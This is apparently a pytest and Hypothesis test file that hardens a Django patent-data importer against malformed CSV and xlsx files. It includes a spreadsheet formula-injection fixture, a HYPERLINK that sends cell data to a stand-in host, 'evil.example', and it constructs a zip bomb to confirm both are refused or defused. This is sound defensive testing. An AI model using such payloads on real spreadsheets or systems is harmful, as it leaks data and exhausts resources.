"""Malformed files against the importers: whatever the bytes, an import either finishes with
its bad rows reported by row number, or fails with a Chinese message (TableError) recorded on the
batch — never another exception; and spreadsheets that would unpack to absurd sizes (zip bombs)
are refused before they are inflated."""

import csv
import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.assets.test_imports import INCOPAT_HEADER, incopat_rows
from zhichan.assets.imports import run_import
from zhichan.assets.models import ImportBatch, ImportStatus
from zhichan.lib.tabular import TableError, check_xlsx

pytestmark = pytest.mark.django_db

CELL = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            "",
            "CN",
            "2021-02-30",
            "99999999999999",
            '=HYPERLINK("x")',
            "发明授权",
            "C25F 3/04;;",
            "\x00",
            "\ufeff申请号",
            "1e309",
            "-1",
            "2021/13/01",
            "；；",
            "\r\n",
        ]
    ),
)


def _csv(header, rows) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])
    return out.getvalue().encode("utf-8", "surrogatepass")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    header=st.one_of(
        st.just(INCOPAT_HEADER), st.lists(st.sampled_from([*INCOPAT_HEADER, "?", ""]), max_size=18)
    ),
    rows=st.lists(st.lists(CELL, max_size=18), max_size=6),
    mangle=st.sampled_from(["none", "truncate", "noise", "gbk", "binary"]),
    cut=st.integers(min_value=0, max_value=400),
)
def test_malformed_csv_never_crashes_the_import(tmp_path, header, rows, mangle, cut):
    data = _csv(header, rows + incopat_rows()[:1])
    if mangle == "truncate":
        data = data[:cut]
    elif mangle == "noise":
        data = data[:cut] + bytes(range(256)) + data[cut:]
    elif mangle == "gbk":
        data = data.decode("utf-8", "replace").encode("gbk", "replace")
    elif mangle == "binary":
        data = bytes((i * 37 + cut) % 256 for i in range(cut + 50))
    path = tmp_path / "导出.csv"
    path.write_bytes(data)
    try:
        batch = run_import("patents", path=path, parallel=False)
    except TableError as error:
        assert any("\u4e00" <= ch <= "\u9fff" for ch in str(error))  # said in Chinese
        assert ImportBatch.objects.filter(status=ImportStatus.FAILED).exists()  # recorded, can be re-run
        return
    assert batch.status == ImportStatus.DONE
    assert all(e["row"] >= 1 and e["message"] for e in batch.errors)


def test_zip_bombs_and_non_zips_are_refused(tmp_path):
    bomb = tmp_path / "炸弹.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (64 * 1024**2))  # 64 MB of zeros, ~64 KB packed
    assert bomb.stat().st_size < 200_000
    with pytest.raises(TableError, match="压缩炸弹"):
        check_xlsx(bomb)
    with pytest.raises(TableError, match="压缩炸弹"):
        run_import("patents", path=bomb, parallel=False)
    fake = tmp_path / "伪装.xlsx"
    fake.write_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(TableError, match="不是有效的 Excel"):
        run_import("patents", path=fake, parallel=False)


def test_control_characters_in_a_valid_row_do_not_break_the_import(tmp_path):
    row = incopat_rows()[0]
    row[0] = "一种\x00铝箔\x07的腐蚀方法"  # NUL cannot be stored by PostgreSQL; BEL is just noise
    path = tmp_path / "导出.csv"
    path.write_bytes(_csv(INCOPAT_HEADER, [row]))
    batch = run_import("patents", path=path, parallel=False)  # found by this test: PostgreSQL refused the NUL
    assert batch.status == ImportStatus.DONE and batch.created == 1
    from zhichan.assets.models import Patent

    assert "\x00" not in Patent.objects.get().title and "铝箔" in Patent.objects.get().title


def test_exports_defuse_formulas(client, roles):
    """A title that a spreadsheet would run as a formula (=, +, -, @) is written as text."""
    from django.urls import reverse
    from openpyxl import load_workbook

    from tests.monitor.test_compute import patent

    held = patent("420581100", holder=roles["yidu_firm"])
    held.title = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    held.save()
    client.force_login(roles["county"])
    text = b"".join(client.get(reverse("assets:patent_export", args=["csv"])).streaming_content).decode(
        "utf-8-sig"
    )
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    response = client.get(reverse("assets:patent_export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    titles = [c.value for c in next(sheet.iter_cols(min_col=3, max_col=3))]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"点击")' in titles
